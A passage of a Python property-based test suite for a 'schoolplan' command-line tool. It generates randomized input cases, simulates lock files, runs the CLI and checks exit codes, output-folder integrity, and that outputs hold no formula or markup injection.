    (out / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def _lock_beside(root: Path, out: Path, written: Written, *, live: bool) -> None:
    """A lock on ``--out`` as another run leaves it: held (``flock``, as a live run holds it) or left by a run that died."""
    import fcntl

    lock = out.parent / f".{out.name}.schoolplan-lock"
    staging = out.parent / f".{out.name}.schoolplan-deadbeef.tmp"
    info = {"pid": 4_000_000, "host": "elsewhere" if live else os.uname().nodename, "started": "2026-09-01T08:00:00+00:00"}
    fd = os.open(lock, os.O_RDWR | os.O_CREAT, 0o644)
    os.write(fd, json.dumps({**info, "staging": staging.name}).encode("utf-8"))
    if live:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        written.held.append(fd)
        return
    os.close(fd)
    staging.mkdir()
    (staging / "manifest.json").write_text("{}", encoding="utf-8")  # half a run
    written.stale += [p.relative_to(root).as_posix() for p in (lock, staging, staging / "manifest.json")]


def _reads(case: Case, layers: dict[str, Path]) -> set[str]:
    """The layers (and ``groups``) the command reads."""
    if case.scenario_based:
        uses_groups = {"communities", "rotation"} & set(case.stages)
        return {layer for layer in layers if layer != "groups" or uses_groups}
    read = set(COMMAND_LAYERS[case.command]) | ({"teachers"} & set(layers))
    return read | ({"groups"} & set(layers) if case.command in ("communities", "rotate") else set())


def materialize(case: Case, root: Path) -> Written:
    """Write the case's inputs under ``root/in`` and prepare ``--out``; the argv and what is certain of the result."""
    folder = root / case.in_name
    folder.mkdir()
    layers = {layer: _write_layer(case, layer, frame, folder) for layer, frame in case.frames.items()}
    if case.roads:
        layers["roads"], case.formats["roads"] = _write_roads(case, folder), "gpkg"
    for layer, how in case.broken.items():
        if how == "empty":
            layers[layer].write_bytes(b"")
        else:
            layers[layer].unlink()
    out, expect = _prepare_out(case, root, folder)
    if case.out == "groups_inside" and case.groups is None:
        _make_groups(case)  # the natural way into case 10: last year's groups.csv fed back from --out
    if case.groups is not None:
        inside = case.out == "groups_inside"
        where = (out / ("communities" if case.command == "run" else "")) if inside else folder
        where.mkdir(parents=True, exist_ok=True)
        layers["groups"] = where / "groups.csv"
        layers["groups"].write_bytes(_encode(case.groups.to_csv(index=False), case.csv_encoding))
        if inside and ((case.command == "run" and "communities" in case.stages) or case.command == "communities"):
            expect.append("an input in --out named like an output")
    reads = _reads(case, layers)
    expect += [f"bad {layer}" for layer in sorted(case.bad & reads)]
    expect += ["bad parameters"] * ("params" in case.bad)
    if _crs_matters(case, reads):
        expect.append("a CRS the coordinates cannot be in")
    spatial = reads & {"schools", "blocks", "roads"} - set(case.layer_crs)
    if case.gpkg_crs is None and case.crs is None and any(case.formats[lay] == "gpkg" for lay in spatial):
        expect.append("a GeoPackage without a CRS and none declared")
    argv = _argv(case, layers, out.relative_to(root) if case.out == "relative" else out, folder)
    layers = {k: v for k, v in layers.items() if k in reads}
    written = Written(argv=argv, out=out, layers=layers, expect_input_error=expect, previous=_manifest(out / "manifest.json"))
    if case.out in ("locked", "stale_lock"):
        _lock_beside(root, out, written, live=case.out == "locked")
    return written


def _crs_matters(case: Case, reads: set[str]) -> bool:
    """Whether the declared (wrong) CRS applies to a layer the command reads: a CSV/Excel one, or a GeoPackage without CRS."""
    if "crs" not in case.bad:
        return False
    if case.crs in {"moon", "EPSG:4978"}:
        return True  # not a CRS at all, or an earth-centred one: refused however the files are
    spatial = reads & {"schools", "blocks"} - set(case.layer_crs)
    return any(case.formats[lay] != "gpkg" or case.gpkg_crs is None for lay in spatial)


def _argv(case: Case, layers: dict[str, Path], out: Path, folder: Path) -> list[str]:
    common = ["--quiet"] * case.quiet
    if case.scenario_based:
        scenario = _scenario_file(case, layers, folder)
        if case.command == "validate":
            return ["validate", str(scenario), *common]
        extra = ["--no-report"] * (not case.report) + ["--strict"] * case.strict
        return ["run", str(scenario), "--out", str(out), "--time-limit", "1", "--workers", "1", *extra, *case.flags, *common]
    argv = [case.command]
    for layer, path in layers.items():
        if layer in _reads(case, layers):
            argv += [f"--{layer}", str(path)]
    argv += ["--crs", case.crs] if case.crs is not None else []
    for layer, crs in case.layer_crs.items():
        argv += ["--layer-crs", f"{layer}={crs}"] if layer in COMMAND_LAYERS[case.command] else []
    argv += ["--out", str(out), "--time-limit", "1", "--workers", "1", *case.command_flags, *case.flags, *common]
    return argv + ["--strict"] * case.strict


# --------------------------------------------------------------------------- running and checking


def snapshot(root: Path) -> dict[str, str]:
    """Every file and folder under ``root`` (hidden ones too): relative path → content checksum, or ``"dir"``."""
    out = {}
    for p in sorted(root.rglob("*")):
        out[p.relative_to(root).as_posix()] = "dir" if p.is_dir() else hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _manifest(path: Path) -> dict[str, Any] | None:
    """A schoolplan ``manifest.json`` at ``path``, or ``None`` (missing, a folder, or not one of ours)."""
    try:
        data = json.loads(path.read_bytes())
    except (OSError, ValueError):
        return None
    return data if isinstance(data, dict) and "schoolplan" in data and isinstance(data.get("outputs"), dict) else None


def run_cli(argv: list[str], cwd: Path) -> tuple[int, str, str]:
    """``schoolplan ARGV`` in this process, in ``cwd``: exit code, stdout, stderr (warnings shown as on a console)."""
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.chdir(cwd), warnings.catch_warnings(), contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        warnings.simplefilter("always")  # as on a user's console: every warning printed, none raised
        try:
            code = cli.main(argv)
        except SystemExit as exc:  # argparse refusing a flag's value
            code = exc.code if isinstance(exc.code, int) else cli.EXIT_INPUT
    return code, stdout.getvalue(), stderr.getvalue()


def _files_in(snap: dict[str, str], out: str) -> dict[str, str]:
    """The files of a snapshot inside ``out``: path relative to ``out`` → checksum."""
    return {k.removeprefix(out + "/"): v for k, v in snap.items() if k.startswith(out + "/") and v != "dir"}


def check_out_whole(out: Path, before: dict[str, str], after: dict[str, str], previous: dict[str, Any] | None) -> None:
    """After exit 0/3/4 (``before``/``after``: the files in ``--out``): whole, the user's files as they were, nothing else.

    ``manifest.json`` lists files that exist with its checksums; a file that was there and that the
    previous manifest did not list as it was is the user's and unchanged; the previous run's files
    not written again are gone; nothing else is in the folder.
    """
    manifest = _manifest(out / "manifest.json")
    assert manifest is not None, "no schoolplan manifest.json in --out after a run that wrote"
    listed = {**manifest["kept"], **manifest["outputs"]}
    for rel, sha in listed.items():
        assert after.get(rel) == sha, f"{rel}: listed in manifest.json but missing or with another checksum"
    old = {} if previous is None else {**previous.get("kept", {}), **previous["outputs"]}
    ours = {rel for rel, sha in old.items() if before.get(rel) == sha} | ({"manifest.json"} if previous is not None else set())
    for rel, sha in before.items():
        if rel not in ours:
            assert after.get(rel) == sha, f"{rel}: a file of the user's in --out was changed or removed"
        elif rel not in listed and rel != "manifest.json":
            assert rel not in after, f"{rel}: the previous run's file, not written again, was left behind"
    extra = sorted(set(after) - set(listed) - set(before) - {"manifest.json"})
    assert not extra, f"in --out but neither listed in manifest.json nor there before: {extra}"


def check_names_safe(out: Path, hostile: list[str]) -> None:
    """In the outputs: no live formula in ``report.xlsx`` or a CSV file, no raw injected markup or bidi control in an HTML page."""
    manifest = _manifest(out / "manifest.json")
    assert manifest is not None
    for path in (out / rel for rel in manifest["outputs"]):
        if path.suffix == ".html":
            text = path.read_text(encoding="utf-8")
            assert not BIDI.search(text), f"{path.name}: a bidirectional control character"
            raw = [h for h in hostile if h.startswith(("</", '">')) and h in text]
            assert not raw, f"{path.name}: markup from a name written raw: {raw}"
        elif path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert not any("<f>" in xml or "<f " in xml for xml in sheets), f"{path.name}: a formula cell"
        elif path.suffix == ".csv":
            for line in path.read_text(encoding="utf-8-sig", errors="replace").splitlines():
                assert not re.search(r'(^|,)"?[=@\t]', line), f"{path.name}: a formula-like text written raw: {line!r}"


def check(case: Case, written: Written, root: Path, result: tuple[int, str, str], before: dict[str, str]) -> None:
    """Every property the module promises, for one example run (``before``: the snapshot of ``root`` before it)."""
    code, stdout, stderr = result
    after = snapshot(root)
    shown = f"exit {code}\n--- stdout\n{stdout[-3000:]}\n--- stderr\n{stderr[-3000:]}"
    assert code in EXIT_CODES, shown
    assert "Traceback" not in stdout + stderr, shown
    if written.expect_input_error:
        assert code == cli.EXIT_INPUT, f"expected exit 2 ({'; '.join(written.expect_input_error)}), got {shown}"
    if code == cli.EXIT_INPUT:
        assert stderr.strip(), "exit 2 without a message"
    stray = [k for k in set(after) - set(before) if "schoolplan-" in k.rsplit("/", 1)[-1] or k.endswith(".tmp")]
    assert not stray, f"temporary or lock files left: {stray}"
    if code != cli.EXIT_INPUT and case.command != "validate":
        left = [k for k in written.stale if k in after]
        assert not left, f"a dead run's lock or unfinished files, not taken over by a run that finished: {left}"
    before, after = ({k: v for k, v in snap.items() if k not in written.stale} for snap in (before, after))
    if code == cli.EXIT_INPUT or case.command == "validate":
        assert after == before, f"--out or an input changed, {shown}"
        return
    out = written.out.relative_to(root).as_posix()
    made = {p.as_posix() for p in Path(out).parents}  # the folders made for --out
    outside = [{k: v for k, v in snap.items() if not (k == out or k.startswith(out + "/") or k in made)} for snap in (before, after)]
    assert outside[0] == outside[1], "a file outside --out (an input) changed"
    check_out_whole(written.out, _files_in(before, out), _files_in(after, out), written.previous)
    check_names_safe(written.out, case.hostile)


@pytest.mark.slow
@SETTINGS
@given(seed=st.integers(0, 2**32 - 1))
def test_any_mix_of_the_issue14_cases_exits_cleanly_and_leaves_out_whole_or_untouched(seed: int) -> None:
    case = build_case(seed)
    note(repr(case))
    with tempfile.TemporaryDirectory(prefix="clihyp-") as tmp:
        root = Path(tmp)
        written = materialize(case, root)
        before = snapshot(root)
        note(f"schoolplan {' '.join(written.argv)}")
        try:
            result = run_cli(written.argv, root)
        finally:
            for fd in written.held:
                os.close(fd)
        check(case, written, root, result, before)


# --------------------------------------------------------------------------- what the suite found, as regular tests


def _plain_county(folder: Path) -> dict[str, Path]:
    """A small county as CSV files (schools, blocks, teachers) under ``folder``: path by layer."""
    frames = base_county(random.Random(1))
    frames.setdefault("teachers", _teachers(frames["schools"], np.random.default_rng(1)))
    folder.mkdir()
    paths = {}
    for layer, frame in frames.items():
        paths[layer] = folder / f"{layer}.csv"
        frame.to_csv(paths[layer], index=False)
    return paths


@pytest.mark.parametrize(
    ("command", "flag", "value"),
    [
        ("zones", "--overflow-penalty-min", "inf"),  # OverflowError: cannot convert float infinity to integer
        ("zones", "--stability-weight-min", "1e300"),  # OverflowError: Python int too large to convert to C long
        ("rotate", "--gap-weight", "inf"),  # OverflowError
        ("rotate", "--move-penalty", "1e15"),  # exit 4: GLOP stopped with status ABNORMAL
        ("rotate", "--commute-weight-per-min", "inf"),  # exit 4 likewise
    ],
)
def test_infinite_or_huge_weights_are_input_errors_naming_the_parameter(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, flag: str, value: str
) -> None:
    paths = _plain_county(tmp_path / "in")
    layers = ["--schools", str(paths["schools"])] + (
        ["--blocks", str(paths["blocks"])] if command == "zones" else ["--teachers", str(paths["teachers"])]
    )
    out = tmp_path / "out"
    code = cli.main([command, *layers, "--crs", "wgs84", "--out", str(out), "--time-limit", "1", "--workers", "1", flag, value])
    err = capsys.readouterr().err
    assert code == cli.EXIT_INPUT and not out.exists()
    param = flag.removeprefix("--").replace("-", "_")
    assert re.search(rf"command line, column '\w+\.{param}': Input should be less than or equal to [\d,.e+]+", err), err
